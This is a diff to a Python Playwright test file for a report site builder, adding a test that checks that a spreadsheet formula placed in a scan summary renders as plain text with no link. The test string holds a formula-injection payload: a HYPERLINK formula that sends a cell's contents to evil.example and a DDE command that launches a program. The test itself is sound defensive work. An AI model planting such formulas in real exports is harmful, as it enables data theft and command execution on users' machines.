@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
 
+from reports.build import build_site
 from reports.svg import write_svg
 from tests.reports import sample_diffs, samples
 from tests.reports.chromium import PATIENCE, overflow, quiet_page
@@ -110,3 +112,18 @@ def test_diff_picture_fits(page: Page, tmp_path: Path, layers: int) -> None:
         .filter(text => { const box = text.getBBox(); return box.x < 0 || box.x + box.width > 960; })
         .map(text => text.textContent)"""
     assert page.evaluate(outside) == []
+
+
+def test_a_formula_is_text(page: Page, tmp_path: Path):
+    """What a spreadsheet would run stands in a page as it was written, and leads nowhere."""
+    formula = '=HYPERLINK("https://evil.example/"&A1,"x") @SUM(1+1)*cmd|\' /C calc\'!A0'
+    view = samples.view()
+    (release,) = view.releases
+    first, *others = release.scans
+    cell = replace(first, verdict=replace(first.verdict, summary=formula))
+    build_site(replace(view, releases=(replace(release, scans=(cell, *others)),)), tmp_path / "out")
+
+    page.goto((tmp_path / "out" / "forks" / first.repo / "index.html").as_uri())
+
+    assert page.locator(".headline-text").inner_text() == formula
+    assert page.locator("[href*=evil]").count() == 0
